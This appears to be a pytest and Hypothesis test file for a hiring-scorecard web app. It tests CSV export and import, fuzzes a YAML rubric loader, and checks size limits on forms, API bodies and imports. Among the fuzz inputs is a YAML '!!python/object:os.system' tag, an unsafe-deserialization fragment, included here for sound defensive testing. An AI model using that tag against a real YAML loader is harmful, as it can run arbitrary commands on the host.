    evidence=st.lists(HOSTILE.filter(str.strip), min_size=1, max_size=3),
)
def test_an_export_imports_back_to_what_was_stored(
    app: Flask, runner: FlaskCliRunner, tmp_path: Path, names: list[str], evidence: list[str]
) -> None:
    engine = app.extensions["hiring.engine"]
    empty_tables(engine)
    rubrics = app.extensions["hiring.rubrics"].current()
    with new_session(engine) as session:
        ivan = make_user(session, email="+ivan@example.com")
        for number, name in enumerate(names):
            candidate = create_candidate(
                session=session,
                rubrics=rubrics,
                name=name,
                email=f"c{number}@example.com",
                rubric_id="product-manager",
            )
            interview = assign_interview(
                session=session, rubrics=rubrics, candidate=candidate, interviewer_email=ivan.email
            )
            given_ = evidence[number % len(evidence)]
            data = ScorecardInput(
                ratings={c: RatingInput(rating=number % 4 + 1, evidence=given_) for c in FOCUS},
                recommendation=Recommendation.YES,
                submit=True,
            )
            scoring.save_scorecard(
                session=session, interview=interview, author=ivan, data=data, current_rubric=PM
            )
        session.commit()
    stored = written(app)
    first, second = tmp_path / "first.csv", tmp_path / "second.csv"
    assert runner.invoke(args=["export", "scorecards", str(first)]).exit_code == 0
    empty_tables(engine)
    result = runner.invoke(args=["import", "scorecards", str(first)])
    assert result.exit_code == 0, result.output
    assert written(app) == stored
    assert runner.invoke(args=["export", "scorecards", str(second)]).exit_code == 0
    assert second.read_bytes() == first.read_bytes()


# The rubric loader


def assert_rubric_outcome(text: str) -> None:
    """A rubric and no errors, or errors that each name the file, the place and the problem."""
    rubric, errors = parse_rubric(text, "x.yaml")
    assert (rubric is None) == bool(errors)
    for error in errors:
        assert "\n" not in error, error
        line_and_column = re.match(r"x\.yaml:\d+:\d+: \S", error)  # YAML syntax
        field_and_problem = re.match(r"x\.yaml: .+?: \S", error)  # content
        assert line_and_column or field_and_problem or error.startswith("x.yaml: expected a")
    if rubric is not None:  # and one the app can store and score with
        assert len(rubric.title) <= 200
        assert "\x00" not in json.dumps(rubric.model_dump(mode="json"))
        weights = [c.weight for c in rubric.competencies]
        weights += [w for profile in rubric.stage_profiles.values() for w in profile.values()]
        assert all(math.isfinite(weight) for weight in weights)


YAML_PIECES = st.sampled_from(
    [
        *("id:", "title:", "version:", "scale:", "competencies:", "anchors:", "weight:"),
        *(" ", "  ", "\n", "\t", "- ", ": ", "? ", "{", "}", "[", "]", ",", "#", "|", ">"),
        *("&a ", "*a", "<<: ", "!!binary ", "!!set ", "!!python/object:os.system ", "---"),
        *("'", '"', '"\\0"', '"\\ud800"', "2026-02-30", ".inf", ".nan", "~", "No", "1e400"),
        *("product-manager", "x" * 3, "1", "-1", "1.5", "0x1F", "true"),
    ]
)
YAML_TEXT = st.text(max_size=200) | st.lists(YAML_PIECES, max_size=60).map("".join)


@settings(FUZZ, max_examples=300 * FACTOR)
@given(text=YAML_TEXT)
# Found, each a crash of the loader (and of every page while the file is in the folder):
@example(text="? [1, 2]\n: x\n")  # a list as a key
@example(text="competencies: 5\n")  # a number where a list belongs
@example(text="competencies:\n  - id: [1]\n")  # a list as an id
@example(text="title: 2026-02-30\n")  # a date that does not exist
@example(text="competencies:\n  - {name: x}\nanti_patterns:\n  - {id: a, competencies: [z]}\n")
@example(text='title: "PM\\0"\n')  # a NUL by escape: accepted, then a 500 on PostgreSQL
@example(text="\x00")  # an error message on two lines
def test_rubric_loader_reads_any_text_or_says_where_it_is_wrong(text: str) -> None:
    assert_rubric_outcome(text)


def test_rubric_loader_refuses_deep_nesting_with_a_message() -> None:
    # deep enough for PyYAML to run out of stack (its scanner is slow on deep lists)
    text = "{a: " * 1000 + "1" + "}" * 1000
    assert parse_rubric(text, "x.yaml") == (
        None,
        ["x.yaml: YAML nested too deeply: is a bracket left open?"],
    )


BASE_RUBRIC = read_yaml((PROJECT_RUBRICS / "product-manager.yaml").read_text(), "pm")[0]


def rubric_paths(node: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every place in a rubric's data, as a path of keys and indexes."""
    children: list[tuple[Any, Any]] = []
    if isinstance(node, dict):
        children = list(node.items())
    elif isinstance(node, list):
        children = list(enumerate(node))
    return [path] + [p for key, child in children for p in rubric_paths(child, (*path, key))]


YAML_VALUES = JSON_VALUES | st.dates() | st.binary(max_size=8) | st.sets(st.integers(), max_size=2)


@settings(FUZZ, max_examples=120 * FACTOR)  # each example reads a whole rubric: 50 ms
@given(
    path=st.sampled_from(rubric_paths(BASE_RUBRIC)[1:]),
    value=YAML_VALUES,
    change=st.sampled_from(["replace", "delete", "add"]),
)
@example(path=("competencies", 0), value={}, change="replace")  # Found: a crash
@example(path=("id",), value=b"\x80", change="replace")  # Found: a crash (after a first fix)
@example(path=("title",), value="x" * 201, change="replace")  # Found: a 500 on PostgreSQL
@example(path=("competencies", 0, "weight"), value=float("inf"), change="replace")  # Found
def test_rubric_loader_names_the_place_of_any_change(
    path: tuple[Any, ...], value: Any, change: str
) -> None:
    data = copy.deepcopy(BASE_RUBRIC)
    *parents, last = path
    parent = functools.reduce(lambda node, key: node[key], parents, data)
    if change == "delete":
        del parent[last]
    elif change == "add" and isinstance(parent, dict):
        parent[str(value)] = value
    else:
        parent[last] = value
    try:
        text = yaml.safe_dump(data, allow_unicode=True, sort_keys=False)
    except yaml.YAMLError:  # a value YAML cannot write (a lone surrogate, say)
        text = json.dumps(data, default=str)  # JSON is YAML too
    assert_rubric_outcome(text)


@settings(FUZZ, max_examples=30 * FACTOR)
@given(content=st.binary(max_size=300) | YAML_TEXT.map(str.encode))
def test_rubrics_check_reports_any_file_in_one_line_per_problem(
    runner: FlaskCliRunner, tmp_path: Path, content: bytes
) -> None:
    path = tmp_path / "x.yaml"
    path.write_bytes(content)
    result = runner.invoke(args=["rubrics", "check", str(path)])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    assert_no_traceback(result.output)
    assert result.exit_code in (0, 1)
    if result.exit_code:
        *problems, summary = result.stderr.splitlines()
        assert summary.startswith("Error: ")
        assert all(problem.startswith(str(path)) for problem in problems), result.stderr


# Limits


def test_a_form_larger_than_the_server_takes_gets_a_413_page_and_saves_nothing(
    form: Form,
) -> None:
    app, interview_id = form.loop.app, form.loop.interview_id
    before, card = counts(app), stored_scorecard(app, interview_id)
    response = form.post({"version": "0", "takeaways": "x" * 3 * 2**20})
    page = response.get_data(as_text=True)
    assert response.status_code == 413
    assert "The request is larger than the 2 MiB this server accepts" in page
    assert "nothing was saved" in page
    assert_no_traceback(page)
    assert (counts(app), stored_scorecard(app, interview_id)) == (before, card)


@pytest.mark.parametrize(
    "fields",
    [
        {"version": "0", "takeaways": "x" * 600_000},  # under 2 MiB in all
        {f"field{n}": "x" for n in range(1_100)},
    ],
)
def test_a_multipart_form_beyond_the_field_limits_gets_a_413_page(
    form: Form, fields: dict[str, str]
) -> None:
    # encoded here: the test client would spool a large body to a file it never closes
    boundary, body = encode_multipart({**fields, "csrf_token": form.token})
    response = form.loop.client.post(
        f"/interviews/{form.loop.interview_id}/scorecard",
        data=body,
        content_type=f"multipart/form-data; boundary={boundary}",
    )
    assert response.status_code == 413
    assert (
        "The request is a form with a field larger than 500 kB or more than 1,000 fields, more "
        "than this server accepts, so nothing was saved"
    ) in response.get_data(as_text=True)


def test_an_api_body_larger_than_the_server_takes_gets_a_413_in_json(loop: Loop) -> None:
    before = counts(loop.app)
    path = f"/interviews/{loop.interview_id}/scorecard"
    response = loop.call("PUT", path, "interviewer", json={"takeaways": "x" * 3 * 2**20})
    assert response.status_code == 413
    assert response.get_json() == {
        "error": "The request is larger than the 2 MiB this server accepts, so nothing was "
        "saved: send less (shorter text) and try again.",
        "details": {},
        "status": 413,
    }
    assert counts(loop.app) == before


def test_form_text_beyond_its_limit_is_refused_next_to_its_field(form: Form) -> None:
    fields = {"version": "0", "rating__high-agency": "3", "evidence__high-agency": "x" * 10_001}
    response = form.post(fields)
    page = response.get_data(as_text=True)
    assert response.status_code == 400
    assert re.search(
        r'id="evidence__high-agency-errors"><li>Field cannot be longer than 10000 characters', page
    )
    assert stored_scorecard(form.loop.app, form.loop.interview_id) is None
    fields["evidence__high-agency"] = "x" * 10_000
    assert form.post(fields).status_code == 302


@pytest.mark.parametrize(
    ("path", "body", "field", "problem"),
    [
        (
            "/interviews/{interview}/scorecard",
            {"ratings": {"high-agency": {"rating": 3, "evidence": "x" * 10_001}}},
            "ratings.high-agency.evidence",
            "String should have at most 10000 characters",
        ),
        (
            "/interviews/{interview}/scorecard",
            {"takeaways": "x" * 10_001},
            "takeaways",
            "String should have at most 10000 characters",
        ),
        (
            "/candidates",
            {"name": "x" * 201, "email": "x@example.com", "rubric": "product-manager"},
            "name",
            "String should have at most 200 characters",
        ),
        (
            "/candidates/{candidate}/interviews",
            {"interviewer_email": "ivan@example.com", "scheduled_at": "9999-12-31T12:00:00Z"},
            "scheduled_at",
            "out of range: give a real date up to 9998, e.g. 2026-12-01T14:00:00+01:00",
        ),
    ],
)
def test_api_text_beyond_its_limit_is_refused_naming_the_field(
    loop: Loop, path: str, body: dict[str, Any], field: str, problem: str
) -> None:
    before = counts(loop.app)
    path = path.format(interview=loop.interview_id, candidate=loop.candidate_id)
    method, who = ("PUT", "interviewer") if "scorecard" in path else ("POST", "recruiter")
    response = loop.call(method, path, who, json=body)
    assert response.status_code == 400
    assert response.get_json()["details"] == {field: problem}
    assert counts(loop.app) == before


def valid_rows(count: int) -> str:
    """A file of `count` valid rows, each its own scorecard."""
    rows = [
        f"c{n}@example.com,Cam {n},product-manager,ivan@example.com,high-agency,3,Did it.,yes,,"
        for n in range(count)
    ]
    return "\n".join([HEADER_LINE, *rows, ""])


def import_refused(app: Flask, runner: FlaskCliRunner, path: Path, content: bytes) -> list[str]:
    """The problems an import reports, having checked that it wrote nothing."""
    before = counts(app)
    result = import_file(runner, path, content)
    assert result.exit_code == 1, result.output
    *problems, summary = result.stderr.splitlines()
    assert summary == f"Error: {len(problems)} error(s) in {path}: nothing was imported"
    assert counts(app) == before
    return problems


SPLIT = (
    "split it into files with the header line and each scorecard's rows together, and import "
    "them one at a time"
)


def test_import_refuses_more_rows_than_it_takes(
    app: Flask, runner: FlaskCliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(scorecard_csv_format, "MAX_ROWS", 3)  # 1,000,000 in earnest
    path = tmp_path / "big.csv"
    assert import_file(runner, path, valid_rows(3).encode()).exit_code == 0
    empty_tables(app.extensions["hiring.engine"])
    assert import_refused(app, runner, path, valid_rows(5).encode()) == [
        f"{path}:5: more than 3 rows, more than one import takes: {SPLIT}"
    ]


def test_import_refuses_a_file_larger_than_it_takes(
    app: Flask, runner: FlaskCliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(scorecard_csv_format, "MAX_FILE_BYTES", 2**20)  # 512 MiB in earnest
    path = tmp_path / "big.csv"
    content = valid_rows(12_000).encode()
    [problem] = import_refused(app, runner, path, content)
    line = content[: 2**20 + 1].count(b"\n") + 1
    assert problem == f"{path}:{line}: the file is larger than 1 MiB: {SPLIT}"


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (
            f"{HEADER_LINE}\n{'x' * 2**20}\n".encode(),
            ":2: longer than 1 MiB: is this a CSV file?",
        ),
        (
            valid_rows(1).encode("utf-16"),
            ":1: the file is UTF-16 (Unicode text): save it as CSV UTF-8",
        ),
        (
            f'{HEADER_LINE}\nc@example.com,"Cam,product-manager\n{"x" * 140_000}\n'.encode(),
            ':2: a cell runs past 131,072 characters: is a quote (") left open?',
        ),
        (
            valid_rows(1).replace("Did it.", "x" * 10_001).encode(),
            ":2: evidence: 10001 characters: shorten it to 10000 at most",
        ),
        (
            valid_rows(1).replace("c0@example.com", f"{'c' * 300}@example.com").encode(),
            f":2: candidate_email: '{'c' * 57}...' is longer than 254 characters: correct the "
            "address",
        ),
    ],
)
def test_import_refuses_what_no_scorecard_file_holds_in_one_line(
    app: Flask, runner: FlaskCliRunner, tmp_path: Path, content: bytes, problem: str
) -> None:
    path = tmp_path / "odd.csv"
    assert import_refused(app, runner, path, content)[0] == f"{path}{problem}"
